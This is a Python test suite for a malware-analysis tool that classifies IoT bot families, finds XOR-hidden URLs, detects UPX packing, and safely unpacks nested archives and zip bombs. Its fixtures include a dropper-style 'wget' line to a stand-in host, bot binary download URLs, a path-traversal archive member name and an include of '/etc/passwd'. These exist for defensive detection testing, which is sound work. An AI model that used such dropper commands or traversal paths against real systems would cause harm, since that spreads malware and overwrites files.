"""What is said of whole payloads: families, traits, hidden texts, archives, files made to harm readers."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.analysis.samples import HARMLESS, LOOKALIKES, TRAITS, elf, rules

from urltrap.analysis import Budget, compile_rules, distance, examine, fuzzy_hash
from urltrap.analysis.packers import entropy, packer
from urltrap.analysis.strings import MOST_FOUND, find_texts, xor_keys
from urltrap.model.artifact import Analysis

SCRIPTS = Path(__file__).resolve().parents[3] / "shared" / "data" / "scripts"
SIGNATURES = rules()


def look(data: bytes, size: int | None = None, budget: Budget | None = None) -> Analysis:
    return examine(data, len(data) if size is None else size, "a" * 64, SIGNATURES, budget=budget)


def test_the_shipped_rules_compile() -> None:
    assert SIGNATURES.errors == ()


@pytest.mark.parametrize("name", LOOKALIKES)
def test_a_family_is_told_by_what_its_members_say(name: str) -> None:
    data, family = LOOKALIKES[name]
    assert look(data).family == family


@pytest.mark.parametrize("name", TRAITS)
def test_a_role_is_told_without_a_family(name: str) -> None:
    data, role, rule = TRAITS[name]
    found = look(data)
    assert rule in [match.rule for match in found.matches]
    assert found.role == role


@pytest.mark.parametrize("name", HARMLESS)
def test_the_harmless_hits_no_rule(name: str) -> None:
    assert look(HARMLESS[name]).matches == []


def test_no_program_of_this_machine_hits_a_rule() -> None:
    programs = [path for path in sorted(Path("/bin").iterdir()) if path.is_file()][::25]
    hits = {}
    for path in programs:
        with path.open("rb") as stream:
            found, problem = SIGNATURES.scan(stream.read(2_000_000))
        assert problem == ""
        if found:
            hits[path.name] = [match.rule for match in found]
    assert len(programs) > 10
    assert hits == {}


def test_no_package_script_of_this_machine_hits_a_rule() -> None:
    scripts = [*Path("/var/lib/dpkg/info").glob("*.p*inst"), *Path("/etc/init.d").glob("*")]
    if not scripts:
        pytest.skip("not a Debian")
    assert {path.name: found for path in scripts if (found := SIGNATURES.scan(path.read_bytes())[0])} == {}


@pytest.mark.skipif(not SCRIPTS.is_dir(), reason="the captured droppers are not here")
def test_captured_droppers_are_told() -> None:
    files = sorted(SCRIPTS.iterdir())
    told = [path.name for path in files if look(path.read_bytes()).role]
    assert len(told) >= 0.9 * len(files), sorted({path.name for path in files} - set(told))


@pytest.mark.parametrize("key", [0x01, 0x22, 0x55, 0x80, 0xFF])
def test_a_url_xored_with_any_byte_is_found(key: int) -> None:
    data = elf(b"junk", b"http://198.51.100.7/bins/mips", b"203.0.113.9", key=key)
    assert key in xor_keys(data)
    found = {(item.text, item.how) for item in find_texts(data)}
    assert (b"http://198.51.100.7/bins/mips", f"xor-0x{key:02x}") in found
    assert (b"203.0.113.9", f"xor-0x{key:02x}") in found


def test_plain_urls_and_addresses_are_found_and_constants_are_not() -> None:
    data = elf(
        b"GET http://198.51.100.7/a.sh.", b"203.0.113.9:23", b"127.0.0.1", b"255.255.255.255", b"1.2.3.4", b"10.0.0.1",
        b"192.168.1.1", b"300.1.1.1", b"1.0.0.0", b"08.8.8.8",
    )  # fmt: skip
    assert [item.text for item in find_texts(data)] == [
        b"http://198.51.100.7/a.sh",
        b"198.51.100.7",
        b"203.0.113.9:23",
    ]


def test_a_payload_full_of_urls_gives_a_bounded_list() -> None:
    data = b"\n".join(b"http://198.51.100.7/%d" % number for number in range(5000))
    assert len(find_texts(data)) == MOST_FOUND


def upx(magic: bytes = b"UPX!", file_size: int = 4096, sections: int = 0) -> bytes:
    head = bytearray(elf(bits=32)[:84])
    head[48:50] = sections.to_bytes(2, "little")
    info = bytes(4) + magic + (0).to_bytes(2, "little") + bytes([13, 12])
    sizes = bytes(4) + file_size.to_bytes(4, "little") + (4096).to_bytes(4, "little")
    return bytes(head) + info + sizes + bytes(range(256)) * 20


def test_upx_is_told_and_so_is_upx_with_its_marks_broken() -> None:
    assert packer(upx()) == "upx"
    assert packer(upx(file_size=0)) == "upx-broken"
    assert packer(upx(magic=b"YTS\x99")) == "upx-broken"
    assert packer(elf(b"hello")) == ""
    assert packer(b"MZ" + bytes(200)) == ""
    assert packer(b"#!/bin/sh\necho UPX!\n") == ""


def test_entropy_is_between_zero_and_eight() -> None:
    assert entropy(b"") == 0
    assert entropy(b"a" * 1000) == 0
    assert entropy(bytes(range(256)) * 4) == pytest.approx(8)


def test_variants_are_near_and_strangers_are_far() -> None:
    body = b"".join(b"%d:%d;" % (n, n * n % 977) for n in range(900))
    other = b"".join(b"line %d of another thing\n" % (n * 31 % 613) for n in range(400))
    variant = body[:2000] + b"http://198.51.100.44/other" + body[2026:]
    assert (
        distance(fuzzy_hash(body), fuzzy_hash(variant)) < 40 < distance(fuzzy_hash(body), fuzzy_hash(other))
    )
    assert fuzzy_hash(b"short") == "" and fuzzy_hash(b"a" * 10_000) == ""


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, body in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return out.getvalue()


def test_what_lies_in_an_archive_in_an_archive_is_seen() -> None:
    inner = tarred({"../../etc/x/bot": LOOKALIKES["gafgyt"][0], "run": b"wget http://198.51.100.9/z\n"})
    found = look(zipped({"readme": b"hello", "all.tar.gz": gzip.compress(inner)}))
    assert found.kind == "archive" and found.family == "Bashlite"
    paths = {member.path: member for member in found.members}
    assert paths["all.tar.gz!../../etc/x/bot"].family == "Bashlite"
    assert paths["all.tar.gz!../../etc/x/bot"].architecture == "mips"
    assert (b"http://198.51.100.9/z", "all.tar.gz!run") in {(item.text, item.member) for item in found.found}


def test_an_archive_nested_deeper_than_allowed_is_named_and_not_opened() -> None:
    data = LOOKALIKES["mirai"][0]
    for _ in range(6):
        data = gzip.compress(data)
    found = look(data)
    assert found.family == "" and found.members[-1].problem == "too-deep"


def test_a_bomb_costs_nothing() -> None:
    bomb = zipped({f"f{n}": bytes(30_000_000) for n in range(4)})
    found = look(bomb)
    assert [member.problem for member in found.members] == ["too-large"] * 4
    budget = Budget(bytes=3_000_000)
    found = look(gzip.compress(bytes(60_000_000)), budget=budget)
    assert found.members[0].problem == "too-large" and found.members[0].size < 3_200_000


def test_many_members_of_just_the_allowed_size_are_bounded_together() -> None:
    files = {f"f{n}": bytes(range(256)) * 2000 for n in range(40)}
    budget = Budget(bytes=2_000_000)
    found = look(tarred(files), budget=budget)
    assert sum(member.size for member in found.members if not member.problem) <= 2_000_000
    assert len(look(tarred({str(n): b"x" for n in range(900)})).members) <= 301


def test_an_encrypted_or_lying_zip_says_so() -> None:
    data = bytearray(zipped({"a": b"secret" * 100}))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    data[6] |= 1
    assert look(bytes(data)).members[0].problem == "encrypted"
    data = bytearray(zipped({"a": b"secret" * 100}))
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = (5).to_bytes(4, "little")
    assert look(bytes(data)).members[0].problem != ""


def test_a_cut_payload_is_analysed_and_called_cut() -> None:
    found = look(elf(b"x")[:60], size=4000)
    assert (found.kind, found.problem, found.architecture) == ("elf", "cut", "mips")


def test_a_broken_rules_file_leaves_the_others_in_use() -> None:
    made = compile_rules(
        {
            "bad.yar": "rule a { condition: nothing }",
            "good.yar": 'rule b { strings: $x = "x" condition: $x }',
            "include.yar": 'include "/etc/passwd"',
        }
    )
    assert {error.source for error in made.errors} == {"bad.yar", "include.yar"}
    assert [match.rule for match in made.scan(b"x")[0]] == ["b"]


@pytest.mark.parametrize("bits", [32, 64])
@given(st.data())
@settings(max_examples=60, deadline=None)
def test_hostile_elf_headers_never_raise_and_are_bounded(bits: int, data: st.DataObject) -> None:
    body = bytearray(elf(b"x" * 50, bits=bits))
    for _ in range(data.draw(st.integers(1, 12))):
        at = data.draw(st.integers(4, len(body) - 9))
        body[at : at + 8] = data.draw(
            st.sampled_from([b"\xff" * 8, bytes(8), b"\x7f\xff\xff\xff" * 2, b"\x01\x00" * 4])
        )
    found = look(bytes(body[: data.draw(st.integers(4, len(body)))]))
    assert found.kind == "elf" and found.elf is not None


@given(
    st.binary(max_size=3000),
    st.sampled_from([b"", b"PK\x03\x04", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\x00", b"MZ", b"<?php "]),
)
@settings(max_examples=150, deadline=None)
def test_any_bytes_give_an_analysis(body: bytes, head: bytes) -> None:
    found = look(head + body)
    assert Analysis.model_validate_json(found.model_dump_json()) == found


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_damaged_archives_give_an_analysis(data: st.DataObject) -> None:
    made = data.draw(
        st.sampled_from(
            [zipped({"a": b"x" * 500, "b/c": b"y"}), tarred({"a": b"x" * 900}), gzip.compress(b"z" * 999)]
        )
    )
    body = bytearray(made)
    for _ in range(data.draw(st.integers(1, 6))):
        body[data.draw(st.integers(0, len(body) - 1))] = data.draw(st.integers(0, 255))
    look(bytes(body[: data.draw(st.integers(1, len(body)))]))
